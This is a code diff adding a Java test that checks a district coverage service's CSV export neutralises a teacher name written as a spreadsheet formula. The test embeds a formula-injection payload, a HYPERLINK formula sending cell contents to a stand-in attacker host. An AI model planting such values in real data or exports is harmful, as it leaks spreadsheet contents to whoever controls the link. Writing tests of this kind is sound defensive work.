@@ -292,6 +292,22 @@ class CoverageTest {
     }
 
     @Test
+    void shouldExportATeacherNamedLikeAFormulaAsTextNotAFormula() {
+        sandbox.fillRate(1.0, 60_000);
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+        DistrictFixture.Pairing lincoln = district.pairing("Lincoln Elementary", DistrictFixture.consultant("Dr. Ira Cole"),
+                DistrictFixture.member(formula, "TEACHER", UUID.randomUUID(), "RESIDENCY_TEACHER"));
+        String session = create(lincoln, "2027-04-06", "AM");
+        awaitStatuses(session, "REQUESTED");
+
+        String csv = given().auth().oauth2(HR).get("/coverage/export?from=2027-04-06&to=2027-04-06").then().statusCode(200).extract().asString();
+
+        assertThat(csv.split("\r\n")).filteredOn(l -> l.contains("HYPERLINK")).singleElement()
+                .satisfies(l -> assertThat(l).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\",")
+                        .doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK"));
+    }
+
+    @Test
     void shouldShowAPrincipalOnlyTheirTeachersCoverageAndTheDistrictItsFillRate() {
         sandbox.fillRate(1.0, 60_000);
         String session = create(garfield, "2027-03-09", "AM");
